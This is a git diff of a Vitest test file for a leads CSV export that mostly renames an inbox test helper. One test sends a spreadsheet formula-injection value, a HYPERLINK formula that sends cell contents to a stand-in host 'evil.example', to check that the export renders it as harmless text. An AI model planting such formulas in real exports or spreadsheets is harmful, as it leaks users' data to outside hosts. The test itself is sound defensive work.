@@ -1,21 +1,21 @@
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
-import { type Inbox, openInbox } from './testing/inbox.ts'
+import { type InboxApp, openInboxApp } from './testing/inbox-app.ts'
 
-let inbox: Inbox
+let inboxApp: InboxApp
 beforeAll(async () => {
-  inbox = await openInbox()
+  inboxApp = await openInboxApp()
 })
-beforeEach(() => inbox.clear())
-afterAll(() => inbox.close())
+beforeEach(() => inboxApp.clear())
+afterAll(() => inboxApp.close())
 
 const file = async (query = '') => {
-  const answer = await inbox.get(`/team/leads.csv${query}`)
+  const answer = await inboxApp.get(`/team/leads.csv${query}`)
   const [heading = '', ...lines] = answer.body.split('\r\n')
   return { answer, heading, lines: lines.filter(Boolean) }
 }
 
 test('a spreadsheet of Brazil opens the file: marked as UTF-8, parted by semicolons', async () => {
-  await inbox.send({ name: 'João Açaí', status: 'em_contato', answers: { segment: 'kids' } })
+  await inboxApp.send({ name: 'João Açaí', status: 'em_contato', answers: { segment: 'kids' } })
   const { answer, heading, lines } = await file()
   expect(answer.headers).toMatchObject({
     'content-type': 'text/csv; charset=utf-8',
@@ -32,8 +32,11 @@ test('a spreadsheet of Brazil opens the file: marked as UTF-8, parted by semicol
 })
 
 test('every line has as many cells as the heading, whichever form it came by', async () => {
-  await inbox.send({ kind: 'interview', answers: { dores: ['filas', 'fraudes'], acao1: 'Ligar' } })
-  await inbox.send({ answers: { region: 'Sul' }, daysAgo: 1 })
+  await inboxApp.send({
+    kind: 'interview',
+    answers: { dores: ['filas', 'fraudes'], acao1: 'Ligar' },
+  })
+  await inboxApp.send({ answers: { region: 'Sul' }, daysAgo: 1 })
   const { heading, lines } = await file()
   const count = (line = '') => line.split('";"').length
   expect(lines.map(count)).toEqual([count(heading), count(heading)])
@@ -42,7 +45,7 @@ test('every line has as many cells as the heading, whichever form it came by', a
 
 test('a formula that a stranger sent is text', async () => {
   const evil = '=HYPERLINK("http://evil.example?"&A1,"Clique")'
-  await inbox.send({
+  await inboxApp.send({
     name: evil,
     company: '@SUM(1)',
     phone: '+55 51 99876-5432',
@@ -55,12 +58,12 @@ test('a formula that a stranger sent is text', async () => {
 })
 
 test('what is filtered is what is exported, all of it and each once', async () => {
-  await inbox.database.pool.query(
+  await inboxApp.database.pool.query(
     `insert into leads (id, kind, status, name, email, phone, company, answers, search_text, created_at)
      select gen_random_uuid(), 'contact', case when n % 2 = 0 then 'ganho' else 'novo' end, 'L' || n, 'e', 'p', 'c',
             '{}', ' palco', app_now() - (n / 3) * interval '1 microsecond' from generate_series(1, 901) n`,
   )
-  await inbox.send({ name: 'Outro', status: 'ganho' })
+  await inboxApp.send({ name: 'Outro', status: 'ganho' })
   const { lines } = await file('?status=ganho&q=palco')
   const names = lines.map((line) => line.split('";"')[3])
   expect(names.filter((name) => name?.startsWith('L'))).toHaveLength(450)
